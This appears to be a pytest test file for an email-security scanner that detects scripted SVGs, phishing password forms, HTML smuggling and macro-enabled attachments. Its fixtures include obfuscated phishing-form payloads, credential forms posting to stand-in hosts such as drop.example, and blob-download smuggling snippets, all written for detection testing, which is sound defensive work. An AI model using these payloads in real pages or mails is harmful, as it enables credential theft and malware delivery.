"""Web pages are recognised by what they do, not by their name; so are documents that may run macros."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mailguard
import make_attachments as make
from mailguard.message.files import inspect
from mailguard.message.files.web.script_layer import _decoded
from mailguard.message.files.web.script_string import made_strings

SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example/"</script></svg>'
FORM = "<form action='https://drop.example'><input type=password name=p></form>"


def checks(name, data, body="添付をご覧ください。", kind="application/octet-stream"):
    report = mailguard.scan(make.mail("資料", [(name, kind, data)], body), offline=True)
    assert not report.errors
    return {finding.check: finding for finding in report.findings}


@pytest.mark.parametrize(
    "source",
    [
        SCRIPT,
        SCRIPT.replace("<svg xmlns=", "<s:svg xmlns:s=").replace("</svg>", "</s:svg>").replace("script>", "s:script>"),
        "\ufeff" + SCRIPT,
        '<?xml version="1.0"?>\n<!-- made by a program -->\n' + SCRIPT,
        "<!-- " + "long " * 4000 + "-->" + SCRIPT,
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SCRIPT,
        '<!DOCTYPE svg [<!ENTITY a "b"> <!ENTITY c "d">]>' + SCRIPT,
        SCRIPT.replace("<script>", "<script type='text/ecmascript'>"),
        '<svg xmlns="http://www.w3.org/2000/svg" onload="go()"></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect onpointerdown="go()"/></svg>',
        '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:foreignObject><b/></x:foreignObject></x:svg>',
    ],
)
@pytest.mark.parametrize("name", ["a.svg", "a.xml", "a.dat"])
def test_a_picture_with_a_script(source, name):
    found = inspect(name, "", source.encode())
    assert (found.detected_type, "svg-script" in found.kinds) == ("image/svg+xml", True)


def test_a_picture_without_a_script():
    assert inspect("a.svg", "", b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:rect/></svg:svg>').kinds == ()


@pytest.mark.parametrize("name", ["a.xhtml", "a.shtml", "a.htm", "a.mht", "a.html", "a.xht"])
@pytest.mark.parametrize(
    "prefix", [b"", b"\xef\xbb\xbf", b"some words ", b"<!-- x -->\n", b"GIF89a\1\0\1\0;", b"<?php ?>", b"\0\1\2"]
)
def test_a_form_in_a_file_that_a_browser_opens(name, prefix):
    found = checks(name, prefix + f"<html><body>{FORM}</body></html>".encode())
    assert {"html-attachment", "credential-form"} <= set(found)


FORM_BACKWARDS = ">drowssap=epyt tupni<>elpmaxe.pord//:sptth=noitca mrof<"


@pytest.mark.parametrize(
    "source",
    [
        "<script>document.write('<fo'+'rm action=https://drop.example><inp'+'ut type=pass'+'word>')</script>",
        '<script>var a="<form action=https://drop.example>",b="<input type=password>";document.write(a + b)</script>',
        '<script>var h="";h+="<form action=https:";h+="//a.example>";h+="<input type=password>";x.innerHTML=h</script>',
        "<script>document.write(['<form ','action=https://a.example>','<input ','type=password>'].join(''))</script>",
        f"<script>document.write('{FORM_BACKWARDS}'.split('').reverse().join(''))</script>",
        "<iframe srcdoc=\"&lt;form action='https://drop.example'&gt;&lt;input type=password&gt;\"></iframe>",
        '<iframe srcdoc="<script>go()</script>"></iframe>',
        "<p>Loading…</p><script src=https://drop.example.js></script>",
        "<script>var b=new Blob([d]);navigator.msSaveBlob(b,'plan.zip')</script>",
        "<script>navigator.msSaveOrOpenBlob(new Blob([d]),n)</script>",
    ],
)
def test_a_page_that_is_put_together(source):
    assert "html-smuggling" in checks("report.html", f"<!doctype html><html><body>{source}</body></html>".encode())


def test_where_the_form_made_of_pieces_leads():
    source = "<script>document.write('<form action=htt'+'ps://drop.exa'+'mple/p><input type=password>')</script>"
    found = inspect("a.html", "", f"<html>{source}".encode())
    assert ("https://drop.example/p", "") in found.urls


@pytest.mark.parametrize(
    "source",
    [
        "<p>" + "The results are listed below. " * 12 + "</p><script src=https://cdn.example/t.js></script>",
        "<table id=t></table><script>var r='';for(i in v){r+='<tr><td>';r+=i;r+='</td></tr>'}t.innerHTML=r</script>"
         "<p>" + "A report with a table. " * 12 + "</p>",
        "<p>Plan</p><iframe srcdoc='<p>A small note</p>'></iframe>",
        "<p>Dear all</p><script>var name='a'+'b'</script>",
    ],
)  # fmt: skip
def test_ordinary_pages(source):
    found = checks("report.html", f"<!doctype html><html><body>{source}</body></html>".encode())
    assert "html-smuggling" not in found


EMPTY = make.word()


@pytest.mark.parametrize("name", ["a.docm", "a.xlsm", "a.xlsb", "a.pptm", "a.dotm", "a.xlam", "A.DOCM ", "a.ppam"])
@pytest.mark.parametrize("data", [EMPTY, b"PK\x03\x04 damaged", b"\x80\x81 no document", b"words"])
def test_a_document_that_may_run_macros_is_named(name, data):
    found = checks(name, data)["macro-attachment"]
    assert (found.severity, found.evidence[0].text) == ("medium", name.strip())


def test_by_the_declared_type_alone():
    kind = "application/vnd.ms-excel.sheet.macroEnabled.12"
    assert checks("a.xlsx", EMPTY, kind=kind)["macro-attachment"].severity == "medium"
    assert "macro-attachment" not in checks("a.xlsx", EMPTY)


@pytest.mark.parametrize(
    "words",
    [
        "マクロを有効にしてください。",
        "「コンテンツの有効化」を押してください。",
        "編集を有効にするをクリック",
        "Please click Enable Content.",
    ],
)
def test_the_words_of_the_mail_raise_it(words):
    found = checks("a.docm", EMPTY, words)["macro-attachment"]
    assert found.severity == "high"
    assert found.evidence[1].where == "body:text"


@pytest.mark.parametrize("comma", [",", " , ", "\t,\x1c", "\u3000,\xa0"])
def test_numbers_in_a_row_are_read_with_any_blanks(comma):
    hidden = b"<script>document.write('a whole page')</script>"
    source = "x = [" + "".join(f"{octet}{comma}" for octet in hidden) + "0];"
    assert any(hidden in layer for layer in _decoded(source))


@given(st.sampled_from("0123456789abcdef"), st.integers(50, 70))
def test_hexadecimal_runs_are_read_from_their_least_length_on(digit, count):
    source = "x = '" + (digit + "a") * count + "'; y = '" + "zz" * 60 + "'"
    assert (bytes.fromhex((digit + "a") * count) in list(_decoded(source))) is (count >= 60)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab\"'`+=[],;.()joinreverse \n", max_size=400))
def test_any_script(text):
    list(made_strings(text))


@pytest.mark.parametrize("unit", ["a+", '"a"+', 'a+="b";', '["a","b",', "'a'", '"' + "a" * 399 + '"+', "a + ", "a=b+"])
def test_pieces_without_end(unit):
    started = time.process_time()
    list(made_strings(unit * (400_000 // len(unit))))
    assert time.process_time() - started < 1.0
